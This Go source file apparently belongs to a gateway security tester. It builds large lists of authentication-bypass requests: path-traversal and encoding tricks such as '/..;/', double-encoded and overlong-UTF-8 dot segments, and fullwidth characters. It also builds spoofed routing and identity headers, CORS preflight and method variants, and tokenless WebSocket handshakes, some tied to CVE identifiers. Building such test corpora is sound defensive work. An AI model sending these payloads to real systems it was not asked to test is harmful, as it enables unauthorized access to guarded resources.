package corpus

import (
	"fmt"
	"net/url"
	"strconv"
	"strings"

	"github.com/wxgate/wxgate/internal/attack/wire"
)

// pathLines returns request targets that a gateway may read as below open, and that some
// server reads as closed. Both end in a slash.
func pathLines(open, closed string) []string {
	o, c := strings.TrimSuffix(open, "/"), strings.Trim(closed, "/")+"/secret"
	lines := []string{}
	// Dot segments, after which the rest is the closed path.
	for _, dots := range []string{
		"/..;/", "/..;x=y/", "/.;/..;/", "/;/../", ";/../", ";x/../", "/x;/../../",
		"/%2e%2e/", "/%2E%2E/", "/.%2e/", "/%2e./", "/%2e%2e;/", "/%2e%2e%2f", "/..%2f", "/..%2F", "%2f../", "%2f..%2f", "/%2f../../",
		"/%252e%252e%252f", "/%252e%252e/", "/..%252f",
		"/../", "/./../", "//../", "/x/../../", "//x/../../../", "/.//../",
		`\..\`, `/..\`, `\../`, "/..%5c", "%5c..%5c", "/..%255c", "/%2e%2e%5c",
		"/..%00/", "%00/../", "/%00/../../", "/..%09/", "/..%0d%0a/", "/..%20/", "/..%23/", "/..%3f/", "/..%3b/",
		"/%c0%ae%c0%ae/", "/..%c0%af", "%c0%af..%c0%af", "/%e0%80%ae%e0%80%ae/", "/%u002e%u002e/", "/..%u002f", "/.../../../", "/...%20/../../",
	} {
		lines = append(lines, o+dots+c)
	}
	return append(lines,
		"//"+strings.TrimPrefix(o, "/")+"/../"+c,
		"/"+o+"/../"+c,
		strings.ToUpper(o)+"/x",
		"/"+c+"?x="+open,
		"/"+c+"?/.."+open+"x",
		"/"+c+"%23"+open,
		"/"+c+"#"+open,
		"/"+c+";"+open+"health",
		"/"+c+"%3b"+open,
		"/"+c+"%3f"+open,
		"/"+c+"%00"+open,
		"/"+c+"/..;"+open,
		"/"+c+"/%2e%2e/%2e%2e"+open,
		"/"+c+"/..%2f..%2f"+strings.TrimPrefix(open, "/"),
		o+"-not/x",
		o+".not/x",
		o+"%2fx",
		o+"#/../"+c,
		"http://{host}/"+c,
		"http://{host}"+o+"/../"+c,
		"http://{host}/"+c+"#"+open,
		"http://{host}/"+c+"?"+open,
		"https://{host}"+o+"/..;/"+c,
		strings.TrimPrefix(open, "/")+"../"+c,
		"*",
		o+"/index.php/"+c, o+"/x.PHP/"+c,
		o+"/．．/"+c, o+"/‥/"+c, o+"／．．／"+c, o+"/%EF%BC%8E%EF%BC%8E/"+c, o+"/%e2%80%a5/"+c, o+"%EF%BC%8F..%EF%BC%8F"+c, o+"/..%E2%88%95"+c, o+"/.%EF%BC%8E/"+c,
		o+"::$INDEX_ALLOCATION/../"+c, o+"/..::$INDEX_ALLOCATION/"+c,
	)
}

// pathAttacks: a request without a token for a guarded path that looks like a public one. `GET /public/..;/guarded/secret`.
func pathAttacks(t *Target) []Attack {
	var out []Attack
	for _, open := range []struct {
		id     string
		need   Control
		prefix string
		of     func(*Target) string
	}{
		{"public", public, t.Public, func(t *Target) string { return t.Public }},
		{"optional", optional, t.Optional, func(t *Target) string { return t.Optional }},
	} {
		for i, line := range pathLines(open.prefix, t.Guarded) {
			out = append(out, Attack{
				ID: "path/" + open.id + "-" + number(i), Mechanism: pathMechanism,
				Needs: []Control{guarded, open.need}, Request: anonymous(line), Judge: outside(open.of),
			})
		}
	}
	return out
}

// pathHeaderAttacks: a request without a token for a guarded path, with a header that names
// another path or a user. `GET /guarded/x` + `X-Forwarded-Uri: /public/x`.
func pathHeaderAttacks(t *Target) []Attack {
	var out []Attack
	inPublic := func(t *Target) string { return t.Public }
	add := func(id string, advisories []string, request wire.Request, needs ...Control) {
		out = append(out, Attack{
			ID: "path/" + id, Mechanism: pathMechanism, Advisories: advisories,
			Needs: append(needs, guarded), Request: request, Judge: outside(inPublic),
		})
	}
	closed := t.Guarded + "secret"
	for _, name := range []string{
		"X-Forwarded-Uri", "X-Forwarded-Path", "X-Forwarded-Prefix", "X-Original-URL", "X-Original-URI", "X-Rewrite-URL",
		"X-Envoy-Original-Path", "X-Request-URI", "X-Replaced-Path", "Referer",
	} {
		add("header-"+strings.ToLower(name), []string{"CVE-2026-40575"}, anonymous(closed, field(name, t.Public+"x")))
	}
	for _, name := range pathOverrides {
		add("override-"+strings.ToLower(name), []string{"CVE-2018-14773"}, anonymous(t.Public+"x", field(name, closed)), public)
	}
	for _, name := range prefixHeaders {
		prefix := strings.TrimSuffix(t.Public, "/")
		add("prefix-"+strings.ToLower(name), []string{"CVE-2026-35051"}, anonymous(prefix+closed, field(name, prefix)), public)
	}
	for _, f := range []wire.Field{
		field("User-Agent", "GoogleHC/1.0"), field("User-Agent", "kube-probe/1.31"), field("User-Agent", "ELB-HealthChecker/2.0"),
		field("X-Forwarded-For", "127.0.0.1"), field("X-Real-IP", "127.0.0.1"), field("X-Forwarded-Host", "localhost"), field("Forwarded", "for=127.0.0.1"),
		field("X-Forwarded-Method", "OPTIONS"), field("X-HTTP-Method-Override", "OPTIONS"), field("X-Forwarded-Proto", "https"),
		field(t.Identity, "{victim}"), field("Authorization", ""), field("Authorization", "Basic YTpi"), field("Authorization", "Bearer"), field("Authorization", "Bearer "),
		field("Cookie", "access_token=x"), field("X-Forwarded-User", "{victim}"), field("Remote-User", "{victim}"),
	} {
		id := strings.Map(func(r rune) rune {
			if r == ' ' || r == '/' || r == '{' || r == '}' {
				return '-'
			}
			return r
		}, strings.ToLower(f.Name+"="+f.Value))
		add("claims-"+id, []string{"CVE-2026-34457"}, anonymous(closed, f))
	}
	options := func(header ...wire.Field) wire.Request {
		return wire.Request{Method: "OPTIONS", Path: closed, Header: header}
	}
	origin, method := field("Origin", "https://h5.example.com"), field("Access-Control-Request-Method", "GET")
	add("preflight-bare", nil, options())
	add("preflight-without-method", nil, options(origin))
	add("preflight-without-origin", nil, options(method))
	add("preflight-forwarded", nil, options(origin, method))
	add("preflight-as-get", nil, anonymous(closed, origin, method))
	add("method-head", nil, wire.Request{Method: "HEAD", Path: closed})
	add("method-unknown", nil, wire.Request{Method: "PROPFIND", Path: closed})
	add("method-lower", nil, wire.Request{Method: "get", Path: closed})
	return out
}

// pathOverrides are headers whose URL some frameworks serve instead of the request's, or
// use as a part of its path: Symfony and Zend did, IIS with its rewrite module and WSGI
// prefix middleware do.
var pathOverrides = []string{"X-Original-URL", "X-Rewrite-URL", "X-Script-Name", "X-Path-Info", "X-Override-URL", "X-HTTP-Path-Override"}

// handshakeAttacks: a WebSocket handshake without a token.
func handshakeAttacks(t *Target) []Attack {
	request := handshake(t.Guarded + "secret")
	request.Header = request.Header[1:] // no token
	protocol := request
	protocol.Header = append(protocol.Header, field("Sec-WebSocket-Protocol", "bearer, nonsense"))
	var out []Attack
	for id, r := range map[string]wire.Request{"plain": request, "with-a-protocol": protocol} {
		out = append(out, Attack{
			ID: "path/handshake-" + id, Mechanism: pathMechanism, Protocols: h1Only, Needs: []Control{guarded}, Request: r, Judge: served,
		})
	}
	return out
}

// policyAttacks: the attack user requests a path that requires more than a token, spelled
// like another path.
func policyAttacks(t *Target) []Attack {
	p := strings.Trim(t.Phone, "/")
	lines := []string{
		"/x/../" + p + "/secret", "/x/..;/" + p + "/secret", "/x/%2e%2e/" + p + "/secret", "/x/..%2f" + p + "/secret", "/x%2f..%2f" + p + "/secret",
		"//" + p + "/secret", "/./" + p + "/secret", "/" + p + "//secret", "/" + p + "/./secret", "/" + p + ";x/secret", "/;/" + p + "/secret",
		"/" + p + "%2fsecret", "/%2f" + p + "/secret", "/" + p + `\secret`, `\` + p + `\secret`, "/" + p + "%5csecret", "/" + p + "%00/secret",
		"/" + escapeFirst(p) + "/secret", "/" + doubleEscapeFirst(p) + "/secret",
		"/" + strings.ToUpper(p) + "/secret", "/" + strings.ToUpper(p[:1]) + p[1:] + "/Secret",
		"/" + p + "/secret/", "/" + p + "/%73ecret", "/" + p + "/secret;x", "/" + p + "/secret%20", "/" + p + "%20/secret", "/" + p + "./secret", "/" + p + "/secret.", "/" + p + "/secret%00.css",
		"/" + p + "/secret?x", "/" + p + "/secret#x", "/" + p + "/secret%23x", "/" + p + "/secret%3fx",
		"http://{host}/" + p + "/secret", "http://{host}/x/../" + p + "/secret", t.Public + "../" + p + "/secret", t.Optional + "..;/" + p + "/secret",
		"/" + p + "/%c0%ae/secret", "/x/%c0%ae%c0%ae/" + p + "/secret",
		"/index.php/" + p + "/secret", "/x/App.PHP/" + p + "/secret", "/index.php/x.php/" + p + "/secret",
		"/" + p + "::$INDEX_ALLOCATION/secret", "/" + p + "::$index_allocation/secret",
		"/" + widen(p) + "/secret", "/" + url.PathEscape(widen(p)) + "/secret", "/x/%EF%BC%8E%EF%BC%8E/" + p + "/secret", "/" + p + "%EF%BC%8Fsecret", "/" + p + "%E2%88%95secret", "/" + p + "%EF%BC%BCsecret",
	}
	var out []Attack
	for i, line := range lines {
		out = append(out, Attack{
			ID: "policy/path-" + number(i), Mechanism: policyMechanism, Needs: []Control{policy}, Request: get(line), Judge: inside,
		})
	}
	for _, name := range prefixHeaders {
		out = append(out, Attack{
			ID: "policy/prefix-" + strings.ToLower(name), Mechanism: policyMechanism, Advisories: []string{"CVE-2026-35051"},
			Needs: []Control{policy}, Request: get("/any"+t.Phone+"secret", field(name, "/any")), Judge: inside,
		})
	}
	for _, name := range pathOverrides {
		out = append(out, Attack{
			ID: "policy/header-" + strings.ToLower(name), Mechanism: policyMechanism, Advisories: []string{"CVE-2018-14773"},
			Needs: []Control{policy}, Request: get(t.Guarded+"x", field(name, t.Phone+"secret")), Judge: inside,
		})
	}
	return out
}

// number formats i so that names sort by number.
func number(i int) string { return fmt.Sprintf("%02d", i) }

// widen replaces letters with fullwidth letters.
func widen(s string) string {
	return strings.Map(func(r rune) rune { return r + '！' - '!' }, s)
}

func escapeFirst(s string) string { return "%" + strconv.FormatInt(int64(s[0]), 16) + s[1:] }

func doubleEscapeFirst(s string) string { return "%25" + strconv.FormatInt(int64(s[0]), 16) + s[1:] }
